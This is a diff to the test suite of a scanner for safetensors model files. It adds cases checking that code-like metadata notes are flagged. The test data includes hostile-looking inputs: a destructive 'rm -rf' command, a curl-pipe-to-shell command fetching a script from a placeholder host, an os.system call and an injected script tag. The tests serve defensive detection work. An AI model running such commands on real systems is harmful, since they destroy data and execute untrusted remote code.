@@ -22,6 +22,21 @@ describe('safetensors', () => {
     ]) expect(scanBytes('m.safetensors', bytes).findings).to.deep.equal([]);
   });
 
+  const metadata: [string, string[]][] = [
+    ['https://github.com/Stability-AI/generative-models', []],
+    ['bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1)', []],
+    ['evaluated (2,000 steps); executed on 4 GPUs', []],
+    ['import os; os.system(1)', ['safetensors-metadata-code']],
+    ['rm -rf /tmp/x', ['safetensors-metadata-code']],
+    ['curl -s https://example.com/a.sh | sh', ['safetensors-metadata-code']],
+    ['<script>fetch(1)</script>', ['safetensors-metadata-code']],
+  ];
+  for (const [note, rules] of metadata) {
+    it(`the note ${note} → ${rules.join() || 'pass'}`, () => {
+      expect(rulesOf(scanBytes('m.safetensors', safetensors(`{"__metadata__":{"note":${JSON.stringify(note)}},${TENSOR}}`)))).to.deep.equal(rules);
+    });
+  }
+
   it('is not led astray by a header length that looks like another format', () => {
     for (const length of [0x0480, 0x0178, 0x5a4d, 0x8b1f]) {
       const header = `{${TENSOR}}`.padEnd(length, ' ');
